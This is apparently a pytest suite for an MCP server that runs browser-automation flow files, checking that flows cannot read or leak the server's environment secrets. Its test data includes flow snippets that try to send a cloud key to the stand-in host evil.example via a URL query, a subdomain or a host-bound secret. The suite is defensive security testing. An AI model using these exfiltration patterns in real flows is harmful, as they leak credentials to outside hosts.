"""What a flow of another program may have of the server's environment: the secrets given at its start, and no more."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from flowfiles import write
from mcp_sessions import session_under

from flows.flow import Flow
from flows.load import load
from flows.masking import redactor_of
from flows.mcp.limited import masked
from flows.mcp.names import Tool
from flows.policy import Preset
from flows.run import guards_of
from flows.secret import Secret
from view import Bound, Denied

KEY = "key-of-the-cloud-0451"
ENVIRONMENT = {"CLOUD_KEY": KEY, "SHOP_PASSWORD": "correct horse", "MAIL_PIN": "battery staple"}
PASSWORD = Secret("SHOP_PASSWORD", "correct horse", ("shop.example", "pay.example"))
PIN = Secret("MAIL_PIN", "battery staple", ("mail.example",))
GIVEN = {"SHOP_PASSWORD": PASSWORD, "MAIL_PIN": PIN}
HOME = "start: https://evil.example/\n"
STEPS = "steps:\n  - enter: {password: '${password}'}\n"


def lent(folder: Path, head: str, steps: str = STEPS) -> Flow:
    return load(write(folder, head + steps), environment=ENVIRONMENT, given=GIVEN)


SHOWING = {
    "an address": "start: 'https://evil.example/?${env:CLOUD_KEY}'\nsteps: [look around]\n",
    "a variable": HOME + "vars: {key: '${env:CLOUD_KEY}'}\nsteps: ['open ${key}']\n",
    "a text": HOME + "steps:\n  - enter: {name: '${env:CLOUD_KEY}'}\n",
    "a default": HOME + "steps:\n  - enter: {name: '${env:CLOUD_KEY:-none}'}\n",
    "what is not set": HOME + "steps:\n  - enter: {name: '${env:NOBODY_SET_IT:-none}'}\n",
    "a given one": HOME + "steps:\n  - enter: {name: '${env:SHOP_PASSWORD}'}\n",
    "a sign-in": HOME + "browser: {http_credentials: {username: a, password: '${env:CLOUD_KEY}'}}\nsteps: [look]\n",
    "a host": HOME + "secrets: {password: {env: SHOP_PASSWORD, hosts: ['${env:CLOUD_KEY}.evil.example']}}\n" + STEPS,
    "a secret": HOME + "secrets: {password: CLOUD_KEY}\n" + STEPS,
    "a secret on a host": HOME + "secrets: {password: {env: CLOUD_KEY, hosts: [evil.example]}}\n" + STEPS,
    "a secret that is not set": HOME + "secrets: {password: NOBODY_SET_IT}\n" + STEPS,
    "a given secret elsewhere": HOME + "secrets: {password: {env: SHOP_PASSWORD, hosts: [evil.example]}}\n" + STEPS,
}


@pytest.mark.parametrize("preset", Preset)
@pytest.mark.parametrize("tool", [Tool.RUN_FLOW, Tool.VALIDATE_FLOW])
async def test_nothing_else_of_the_environment_is_shown_typed_or_told_of(
    tmp_path: Path, tool: Tool, preset: Preset
) -> None:
    given: dict[str, Any] = {"secrets": (PASSWORD, PIN), "environment": ENVIRONMENT}
    async with session_under(preset, tmp_path, hosts=["evil.example"], folder=tmp_path, **given) as here:
        for what, text in SHOWING.items():
            write(tmp_path, text)
            answer = await here.told(tool, file="flow.yaml")
            error = answer.facts["error"]
            assert isinstance(error, dict), what
            assert (answer.is_error, error["family"], error["kind"]) == (True, "PolicyError", "denied"), what
            assert "--secret" in error["hint"], what
            assert KEY not in str(answer.facts), what
        assert not here.session.runs


def test_nobody_learns_whether_a_variable_is_set(tmp_path: Path) -> None:
    told = []
    for name in ("CLOUD_KEY", "CLOUD_KEX"):
        with pytest.raises(Denied) as refused:
            lent(tmp_path, f"{HOME}secrets: {{password: {name}}}\n")
        told.append((refused.value.message.replace(name, "X"), refused.value.hint))
    assert told[0] == told[1]


@pytest.mark.parametrize(
    ("entry", "hosts"),
    [
        ("SHOP_PASSWORD", ("shop.example", "pay.example")),
        ("{env: SHOP_PASSWORD, hosts: [pay.example]}", ("pay.example",)),
    ],
)
def test_a_given_secret_is_typed_where_the_server_said_whatever_the_flow_starts_on(
    tmp_path: Path, entry: str, hosts: tuple[str, ...]
) -> None:
    flow = lent(tmp_path, f"{HOME}secrets: {{password: {entry}}}\n")
    assert flow.secrets["password"].open() == "correct horse"
    assert guards_of(flow, ("https://evil.example",)).secrets == (Bound(name="password", hosts=hosts),)


def test_a_given_secret_without_a_host_is_lent_to_nobody(tmp_path: Path) -> None:
    text = f"{HOME}secrets: {{password: LOOSE}}\n{STEPS}"
    with pytest.raises(Denied):
        load(write(tmp_path, text), environment={}, given={"LOOSE": Secret("LOOSE", "x")})


def test_every_secret_of_the_server_is_hidden_in_a_flow_also_what_it_does_not_name(tmp_path: Path) -> None:
    flow = masked(lent(tmp_path, f"{HOME}secrets: {{password: SHOP_PASSWORD}}\n"), GIVEN)
    shown = redactor_of(flow.secrets.values()).text("correct horse, battery staple")
    assert shown == "[secret:password], [secret:MAIL_PIN]"


async def test_what_is_wrong_with_a_file_is_told_without_the_servers_secrets(tmp_path: Path) -> None:
    write(tmp_path, HOME + "correct horse: [look]\n")
    async with session_under(Preset.DEV, tmp_path, folder=tmp_path, secrets=[PASSWORD]) as here:
        for tool in (Tool.RUN_FLOW, Tool.VALIDATE_FLOW):
            answer = await here.call(tool, file="flow.yaml")
            assert answer["valid"] is False
            assert "correct horse" not in str(answer)
            assert "[secret:SHOP_PASSWORD]" in str(answer)


def test_at_a_command_line_a_flow_has_the_environment_as_before(tmp_path: Path) -> None:
    text = (
        HOME
        + "secrets: {password: CLOUD_KEY}\nsteps:\n  - enter: {password: '${password}'}\n  - open ${env:MAIL_PIN}\n"
    )
    flow = load(write(tmp_path, text), environment=ENVIRONMENT)
    assert (flow.secrets["password"].open(), flow.steps[1].text) == (KEY, "open battery staple")


@pytest.mark.parametrize("name", [".env", "keys.json", "notes.yaml", "notes.yml"])
async def test_a_file_of_the_folder_that_is_no_flow_is_not_read_out(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_text(f"API_TOKEN: {KEY}\n- [\n", encoding="utf-8")
    async with session_under(Preset.DEV, tmp_path, folder=tmp_path) as here:
        for tool in (Tool.RUN_FLOW, Tool.VALIDATE_FLOW):
            answer = await here.told(tool, file=name)
            assert KEY not in str(answer.facts)
            assert answer.is_error or answer.facts["problems"]
